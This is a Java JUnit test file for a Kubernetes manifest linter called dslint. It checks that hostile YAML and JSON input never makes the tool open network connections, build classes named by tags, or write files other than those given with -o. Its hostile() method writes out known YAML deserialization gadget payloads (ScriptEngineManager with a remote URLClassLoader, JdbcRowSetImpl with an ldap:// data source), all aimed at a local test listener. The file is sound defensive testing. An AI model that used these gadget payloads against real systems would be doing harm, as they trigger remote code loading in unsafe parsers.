package io.dslint.hostile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.dslint.cli.Cli;
import io.dslint.report.Reporters;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What hostile input must never make dslint do: reach the network, construct a class named by a
 * tag, or write a file the user did not name. A listener on 127.0.0.1 stands for any host that
 * tags, $refs, directives and image names point at: no connection may arrive while every format
 * is written, in process and in a JVM of its own. A tag naming a class whose initializer would
 * leave a mark must leave none. Output goes exactly where -o says, and nowhere else (working
 * directory, temporary directory, home, the inputs).
 */
class NoNetworkNoCodeTest {
  /** Set by {@link Canary}'s initializer: a class a tag names must never even be initialized. */
  static final AtomicInteger CANARY_INITIALIZED = new AtomicInteger();

  /** A class a hostile tag names. */
  public static final class Canary {
    static {
      CANARY_INITIALIZED.incrementAndGet();
    }

    public Canary() {
      CANARY_INITIALIZED.incrementAndGet();
    }

    public Canary(String s) {
      CANARY_INITIALIZED.incrementAndGet();
    }
  }

  private static String hostile(int port) {
    String url = "http://127.0.0.1:" + port + "/";
    return String.join("\n",
        "apiVersion: v1",
        "kind: ConfigMap",
        "data: !!java.net.URL [\"" + url + "url\"]",
        "---",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"" + url + "engine\"]]]]",
        "---",
        "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://127.0.0.1:" + port + "/x\", autoCommit: true}",
        "---",
        "!!io.dslint.hostile.NoNetworkNoCodeTest$Canary [\"" + url + "canary\"]",
        "---",
        "!<tag:yaml.org,2002:io.dslint.hostile.NoNetworkNoCodeTest$Canary> {}",
        "---",
        "%TAG !net! " + url,
        "---",
        "data: !net!schema {a: b}",
        "---",
        "$schema: " + url + "schema.json",
        "$ref: " + url + "definitions.json#/DaemonSet",
        "apiVersion: " + url + "apps/v1",
        "kind: DaemonSet",
        "metadata: {name: remote, namespace: kube-system, annotations: {schema: \"" + url + "\"}}",
        "spec:",
        "  selector: {matchLabels: {app: remote}}",
        "  template:",
        "    metadata: {labels: {app: remote}}",
        "    spec:",
        "      containers:",
        "        - name: remote",
        "          image: 127.0.0.1:" + port + "/agent:latest",
        "          securityContext: {seccompProfile: {type: Localhost, localhostProfile: \"" + url + "profile.json\"}}",
        "---",
        "# Source: " + url + "chart/templates/ds.yaml",
        "apiVersion: apps/v1",
        "kind: DaemonSet",
        "metadata: {name: helm, namespace: kube-system}",
        "spec: {\"$ref\": \"" + url + "spec.json\"}",
        "");
  }

  @Test
  void noTagUrlOrReferenceReachesTheNetworkOrConstructsAClass(@TempDir Path dir) throws Exception {
    try (ServerSocket server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
      AtomicInteger connections = new AtomicInteger();
      Thread listener = new Thread(() -> {
        while (!server.isClosed()) {
          try (Socket s = server.accept()) {
            connections.incrementAndGet();
          } catch (SocketTimeoutException e) {
            // keep listening
          } catch (IOException e) {
            return; // closed
          }
        }
      }, "no-network-listener");
      listener.setDaemon(true);
      listener.start();

      Path file = dir.resolve("hostile.yaml");
      Files.writeString(file, hostile(server.getLocalPort()));
      Path json = dir.resolve("hostile.json");
      Files.writeString(json, "{\"$schema\": \"http://127.0.0.1:" + server.getLocalPort() + "/s.json\", "
          + "\"apiVersion\": \"apps/v1\", \"kind\": \"DaemonSet\", \"metadata\": {\"name\": \"j\"}, "
          + "\"spec\": {\"$ref\": \"http://127.0.0.1:" + server.getLocalPort() + "/r.json\"}}\n");

      for (String format : Reporters.FORMATS) {
        Cli.Run run = Cli.run("lint", "-f", format, "--pss-level", "restricted", file.toString(), json.toString());
        assertEquals(2, run.exit().code(), format + ": the refused tags are input errors; " + run.err());
        HostileSuiteTest.assertNoStackTrace(run);
      }
      HostileBoundsTest.Measured child = HostileBoundsTest.run(new HostileCases.Prepared(
          List.of(file.toString(), json.toString()), new byte[0], null, null));
      assertEquals(2, child.exit(), child.stderr());

      Thread.sleep(300); // a connection on its way would be accepted by now
      assertEquals(0, connections.get(), "no connection to the address the input names");
    }
    assertEquals(0, CANARY_INITIALIZED.get(), "no class named by a tag is initialized or constructed");
  }

  @Test
  void outputGoesExactlyWhereTheUserSaid(@TempDir Path root) throws Exception {
    Path work = Files.createDirectories(root.resolve("work"));
    Path tmp = Files.createDirectories(root.resolve("tmp"));
    Path home = Files.createDirectories(root.resolve("home"));
    Path inputs = Files.createDirectories(root.resolve("inputs"));
    Files.writeString(inputs.resolve("ds.yaml"), HostileCases.DAEMONSET);
    Files.writeString(inputs.resolve("broken.yaml"), "a: \"open\n");
    Set<String> before = listing(root);

    List<String> command = new ArrayList<>(List.of(HostileBoundsTest.javaExecutable(), "-Xmx512m",
        "-Djava.io.tmpdir=" + tmp, "-Duser.home=" + home, "-cp", HostileBoundsTest.classPath(),
        "io.dslint.cli.Main", "lint",
        "-f", "sarif", "-o", "reports/nested/out.sarif",
        "-f", "json", "-o", "../out.json",
        "-f", "junit", "-o", work.resolve("abs.xml").toString(),
        "-f", "codeclimate", "-o", "cc/../cc.json",
        "-f", "text",
        inputs.toString()));
    ProcessBuilder pb = new ProcessBuilder(command).directory(work.toFile());
    pb.environment().put("HOME", home.toString());
    pb.environment().put("TMPDIR", tmp.toString());
    pb.redirectOutput(root.resolve("stdout.txt").toFile()).redirectError(root.resolve("stderr.txt").toFile());
    Process p = pb.start();
    assertTrue(p.waitFor(60, TimeUnit.SECONDS));
    assertEquals(2, p.exitValue(), Files.readString(root.resolve("stderr.txt")));

    Set<String> created = listing(root);
    created.removeAll(before);
    assertEquals(new TreeSet<>(Set.of("work/reports", "work/reports/nested", "work/reports/nested/out.sarif",
        "out.json", "work/abs.xml", "work/cc", "work/cc.json", "stdout.txt", "stderr.txt")), created,
        "only the files named with -o (and their directories) are created");
    assertFalse(Files.readString(root.resolve("stdout.txt")).isBlank(), "the format without -o goes to stdout");
  }

  @Test
  void anOutputThatCannotBeWrittenLeavesNoTraceAndTruncatesNothing(@TempDir Path root) throws IOException {
    Path input = root.resolve("ds.yaml");
    Files.writeString(input, HostileCases.DAEMONSET);
    Path earlier = root.resolve("earlier.json");
    Files.writeString(earlier, "last run's report");
    Files.writeString(root.resolve("blocker"), "a file where a directory is needed");
    Set<String> before = listing(root);
    Cli.Run run = Cli.run("lint", "-f", "json", "-o", earlier.toString(),
        "-f", "sarif", "-o", root.resolve("new/dir/out.sarif").toString(),
        "-f", "gnu", "-o", root.resolve("blocker/out.txt").toString(), input.toString());
    assertEquals(2, run.exit().code());
    assertTrue(run.err().contains("cannot write"), run.err());
    assertEquals(before, listing(root), "no file or directory left behind");
    assertEquals("last run's report", Files.readString(earlier), "an existing report is not emptied");
  }

  @Test
  void anOutputThatIsAnInputOrAnotherOutputIsRefused(@TempDir Path root) throws IOException {
    Path input = root.resolve("ds.yaml");
    Files.writeString(input, HostileCases.DAEMONSET);
    Cli.Run overwrite = Cli.run("lint", "-f", "json", "-o", root.resolve(".").resolve("ds.yaml").toString(), root.toString());
    assertEquals(2, overwrite.exit().code());
    assertTrue(overwrite.err().contains("never overwrites what it lints"), overwrite.err());
    assertEquals(HostileCases.DAEMONSET, Files.readString(input), "the manifest is intact");
    Cli.Run twice = Cli.run("lint", "-f", "json", "-o", root.resolve("r.txt").toString(),
        "-f", "sarif", "-o", root.resolve("r.txt").toString(), input.toString());
    assertEquals(2, twice.exit().code());
    assertTrue(twice.err().contains("it is also -o"), twice.err());
    assertFalse(Files.exists(root.resolve("r.txt")));
  }

  @Test
  void aDeviceIsAnOutputToo(@TempDir Path root) throws IOException {
    Path input = root.resolve("ds.yaml");
    Files.writeString(input, HostileCases.DAEMONSET);
    Cli.Run run = Cli.run("lint", "-f", "json", "-o", "/dev/null", "-f", "gnu", input.toString());
    assertEquals(1, run.exit().code(), run.err());
    assertTrue(run.out().contains("[privileged-container]"), run.out());
  }

  private static Set<String> listing(Path root) throws IOException {
    Set<String> all = new TreeSet<>();
    try (Stream<Path> files = Files.walk(root)) {
      files.filter(p -> !p.equals(root)).forEach(p -> all.add(root.relativize(p).toString().replace('\\', '/')));
    }
    return all;
  }
}
